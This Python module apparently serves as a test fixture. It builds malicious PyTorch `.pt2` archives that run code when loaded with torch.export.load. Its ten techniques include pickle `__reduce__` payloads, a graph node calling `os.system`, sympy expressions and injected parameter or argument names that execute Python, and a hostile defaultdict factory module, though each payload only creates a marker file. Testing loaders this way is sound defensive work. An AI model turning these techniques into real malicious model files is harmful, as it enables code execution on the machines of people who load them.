"""`.pt2` files that run code when torch.export.load, or the program that it gives, is trusted.

Each makes a marker file where the code ran.
"""

import io
import json
import pickle
import zipfile
from collections.abc import Callable
from pathlib import Path

import torch

GRAPH, WEIGHTS = "models/model.json", "data/weights/model_weights_config.json"
CONSTANTS, SAMPLE = "data/constants/model_constants_config.json", "data/sample_inputs/model.pt"


class Touch:
    """Unpickling it makes a file."""

    def __init__(self, marker: Path):
        self.marker = marker

    def __reduce__(self):
        return (open, (str(self.marker), "w"))


def entries_of(path: Path) -> dict[str, bytes]:
    with zipfile.ZipFile(path) as archive:
        return {info.filename.partition("/")[2]: archive.read(info) for info in archive.infolist()}


def write(path: Path, entries: dict[str, bytes], *, compression: int = zipfile.ZIP_STORED) -> Path:
    with zipfile.ZipFile(path, "w", compression) as archive:
        for name, content in entries.items():
            archive.writestr(f"evil/{name}", content)
    return path


def edited(entries: dict[str, bytes], name: str, change: Callable[[dict], None]) -> dict[str, bytes]:
    document = json.loads(entries[name])
    change(document)
    return {**entries, name: json.dumps(document).encode()}


def _saved(value: object) -> bytes:
    buffer = io.BytesIO()
    torch.save(value, buffer)
    return buffer.getvalue()


def weight(entries: dict[str, bytes], marker: Path) -> dict[str, bytes]:
    def change(document: dict) -> None:
        next(iter(document["config"].values())).update(use_pickle=True, path_name="weight_0")

    return {**edited(entries, WEIGHTS, change), "data/weights/weight_0": _saved(Touch(marker))}


def constant(entries: dict[str, bytes], marker: Path) -> dict[str, bytes]:
    payload = {"path_name": "tensor_0", "is_param": False, "use_pickle": True, "tensor_meta": None}
    change = {"config": {"c": payload}}
    return {**entries, CONSTANTS: json.dumps(change).encode(), "data/constants/tensor_0": _saved(Touch(marker))}


def opaque_object(entries: dict[str, bytes], marker: Path) -> dict[str, bytes]:
    payload = {"path_name": "opaque_obj_0", "is_param": False, "use_pickle": True, "tensor_meta": None}
    content = pickle.dumps(Touch(marker))
    return {
        **entries,
        CONSTANTS: json.dumps({"config": {"c": payload}}).encode(),
        "data/constants/opaque_obj_0": content,
    }


def sample_inputs(entries: dict[str, bytes], marker: Path) -> dict[str, bytes]:
    return {**entries, SAMPLE: _saved(((torch.zeros(1, 1, 16, 16),), {"x": Touch(marker)}))}


def legacy_weights(entries: dict[str, bytes], marker: Path) -> dict[str, bytes]:
    return {**entries, "data/weights/model.pt": _saved(Touch(marker))}


def operator(entries: dict[str, bytes], marker: Path) -> dict[str, bytes]:
    """Looked up by its dotted name, called with texts of the file's choice."""

    def change(document: dict) -> None:
        nodes = document["graph_module"]["graph"]["nodes"]
        argument = {"name": "command", "arg": {"as_string": f"touch {marker}"}, "kind": 1}
        nodes[0].update(target="torch.serialization.os.system", inputs=[argument], metadata={})

    return edited(entries, GRAPH, change)


def open_size(entries: dict[str, bytes], marker: Path) -> dict[str, bytes]:
    """Evaluated as Python by sympy."""

    def change(document: dict) -> None:
        values = document["graph_module"]["graph"]["tensor_values"]
        code = f"__import__('os').system('touch {marker}')"
        next(iter(values.values()))["sizes"][0] = {"as_expr": {"expr_str": code, "hint": {"as_int": 1}}}

    return edited(entries, GRAPH, change)


def parameter_name(entries: dict[str, bytes], marker: Path) -> dict[str, bytes]:
    """Written into Python source between quotes."""
    config = json.loads(entries[WEIGHTS])["config"]
    old = next(iter(config))
    octal = "".join(f"\\{ord(each):03o}" for each in str(marker))
    new = f"""a b", getattr(__import__("os"), "mknod")("{octal}")) or getattr(self, "x"""
    text = json.dumps(old), json.dumps(new)
    return {
        **entries,
        GRAPH: entries[GRAPH].replace(text[0].encode(), text[1].encode()),
        WEIGHTS: entries[WEIGHTS].replace(text[0].encode(), text[1].encode()),
    }


def argument_name(entries: dict[str, bytes], marker: Path) -> dict[str, bytes]:
    """The forward function's, written into Python source: a default value is evaluated."""

    def change(document: dict) -> None:
        names = document["graph_module"]["module_call_graph"][0]["signature"]["forward_arg_names"]
        names[0] = f"x):\n    __import__('os').mknod('{marker}')\n    return None\n#"

    return edited(entries, GRAPH, change)


def input_tree(entries: dict[str, bytes], marker: Path) -> dict[str, bytes]:
    """A defaultdict's factory is imported by its module's name, whatever that module does."""
    folder = marker.parent / "evil_module"
    folder.mkdir(exist_ok=True)
    (folder / "evil_factory.py").write_text(f"open({str(marker)!r}, 'w')\nmake = dict\n")

    def change(document: dict) -> None:
        signature = document["graph_module"]["module_call_graph"][0]["signature"]
        context = {
            "default_factory_module": "evil_factory",
            "default_factory_name": "make",
            "dict_context": [],
        }
        tree = {"type": "collections.defaultdict", "context": context, "children_spec": []}
        protocol, spec = json.loads(signature["in_spec"])
        spec["children_spec"][0]["children_spec"].append(tree)
        signature["in_spec"] = json.dumps([protocol, spec])

    return edited(entries, GRAPH, change)


EVIL = (
    weight,
    constant,
    opaque_object,
    sample_inputs,
    legacy_weights,
    operator,
    open_size,
    parameter_name,
    argument_name,
    input_tree,
)


def old_form(good: Path, path: Path, marker: Path) -> Path:
    """As torch.export wrote before 2.8: pickles throughout."""
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("version", "8.20")
        archive.writestr("serialized_exported_program.json", entries_of(good)[GRAPH])
        archive.writestr("serialized_state_dict.pt", _saved({"w": Touch(marker)}))
        archive.writestr("serialized_constants.pt", _saved({}))
        archive.writestr("serialized_example_inputs.pt", _saved(((), {})))
    return path
